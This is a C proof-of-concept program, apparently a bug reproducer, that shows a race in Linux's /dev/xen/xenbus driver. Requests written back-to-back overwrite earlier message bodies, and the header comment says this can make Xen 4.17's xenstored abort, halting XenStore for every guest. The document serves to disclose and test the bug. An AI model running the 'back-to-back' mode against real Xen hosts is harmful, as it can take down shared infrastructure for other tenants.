// SPDX-License-Identifier: GPL-2.0
/*
 * xs_overwrite: shows Linux's /dev/xen/xenbus sending a request with the
 * body of the next request written to the same descriptor.
 *
 * The device copies a write into the open file's one message buffer and,
 * once a message is whole, queues it for the domain's xenbus thread with
 * its body by reference to that buffer (xenbus_dev_request_and_reply in
 * drivers/xen/xenbus/xenbus_xs.c, 6.12), then returns. A second request
 * written before that thread copied the first into the ring overwrites
 * the first's body: xenstored receives the first's header with the
 * second's bytes. Xen 4.17's xenstored answers most such requests with
 * an error, but aborts on some (consider_message: Assertion
 * 'conn->in == NULL' failed: get_node_canonicalized fails without setting
 * errno, and with errno 0 no reply is sent), and every guest's XenStore
 * stops with it.
 *
 *   xs_overwrite serial N        N pairs, each request written after the
 *                                previous reply (libxenstore's way):
 *                                exit 0 if every reply is right
 *   xs_overwrite back-to-back N  N pairs written without waiting between
 *                                the two: exit 0 if an overwrite showed
 *                                (a wrong reply, or none: xenstored gone),
 *                                2 if none did
 *
 * A pair is DIRECTORY of our own home (answered with its children) and
 * READ "domid" (answered with our domid). An overwritten DIRECTORY reads
 * "domid\0" over the start of its path: two strings where one is
 * expected, which xenstored refuses.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { XS_DIRECTORY = 1, XS_READ = 2, XS_ERROR = 16, XS_WATCH_EVENT = 15 };

struct msg {
	uint32_t type, req_id, tx_id, len;
};

static int fd;
static char rbuf[1 << 16];
static size_t rlen;

/* Writes one whole message in one write(), as our clients do. */
static int send_msg(uint32_t type, uint32_t req, const char *body)
{
	char buf[sizeof(struct msg) + 256];
	struct msg h = { type, req, 0, (uint32_t)strlen(body) + 1 };
	ssize_t n;

	if (h.len > 256)
		return -1;
	memcpy(buf, &h, sizeof(h));
	memcpy(buf + sizeof(h), body, h.len);
	do
		n = write(fd, buf, sizeof(h) + h.len);
	while (n < 0 && errno == EINTR);
	return n == (ssize_t)(sizeof(h) + h.len) ? 0 : -1;
}

/* Next reply (watch events skipped); -1 when none came within 5 s. */
static int read_reply(struct msg *h, char *body, size_t cap)
{
	for (;;) {
		if (rlen >= sizeof(*h)) {
			memcpy(h, rbuf, sizeof(*h));
			if (rlen >= sizeof(*h) + h->len) {
				size_t n = h->len < cap - 1 ? h->len : cap - 1;
				memcpy(body, rbuf + sizeof(*h), n);
				body[n] = 0;
				rlen -= sizeof(*h) + h->len;
				memmove(rbuf, rbuf + sizeof(*h) + h->len, rlen);
				if (h->type == XS_WATCH_EVENT)
					continue;
				return 0;
			}
		}
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int r = poll(&p, 1, 5000);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			return -1;
		ssize_t n = read(fd, rbuf + rlen, sizeof(rbuf) - rlen);
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		rlen += (size_t)n;
	}
}

int main(int argc, char **argv)
{
	if (argc != 3 || (strcmp(argv[1], "serial") && strcmp(argv[1], "back-to-back"))) {
		fprintf(stderr, "usage: xs_overwrite serial|back-to-back N\n");
		return 64;
	}
	int serial = !strcmp(argv[1], "serial");
	long pairs = atol(argv[2]);
	struct msg h;
	char domid[64], home[96], body[4096];

	fd = open("/dev/xen/xenbus", O_RDWR);
	if (fd < 0) {
		perror("/dev/xen/xenbus");
		return 1;
	}
	if (send_msg(XS_READ, 1, "domid") || read_reply(&h, domid, sizeof(domid)) ||
	    h.type != XS_READ) {
		fprintf(stderr, "READ domid failed\n");
		return 1;
	}
	snprintf(home, sizeof(home), "/local/domain/%s", domid);

	long wrong = 0, shown = 0;
	int lost = 0;
	for (long i = 0; i < pairs && !lost; i++) {
		int answered = 0;
		if (send_msg(XS_DIRECTORY, 2 * i + 2, home)) {
			perror("write");
			return 1;
		}
		if (serial) {
			if (read_reply(&h, body, sizeof(body))) {
				lost = 1;
				break;
			}
			answered = 1;
			if (h.type != XS_DIRECTORY)
				wrong++;
		}
		if (send_msg(XS_READ, 2 * i + 3, "domid")) {
			perror("write");
			return 1;
		}
		for (int k = answered; k < 2; k++) {
			if (read_reply(&h, body, sizeof(body))) {
				lost = 1;
				break;
			}
			int is_dir = h.req_id == (uint32_t)(2 * i + 2);
			int right = is_dir ? h.type == XS_DIRECTORY
					   : h.type == XS_READ && !strcmp(body, domid);
			if (!right) {
				wrong++;
				if (shown++ < 5)
					printf("pair %ld: %s answered with type %u \"%s\"\n", i,
					       is_dir ? "DIRECTORY" : "READ", h.type,
					       h.type == XS_ERROR ? body : "...");
			}
		}
	}
	printf("%s: %ld pairs, %ld wrong replies%s\n", argv[1], pairs, wrong,
	       lost ? ", then no reply within 5 s (xenstored gone?)" : "");
	if (serial)
		return wrong == 0 && !lost ? 0 : 1;
	return wrong > 0 || lost ? 0 : 2;
}
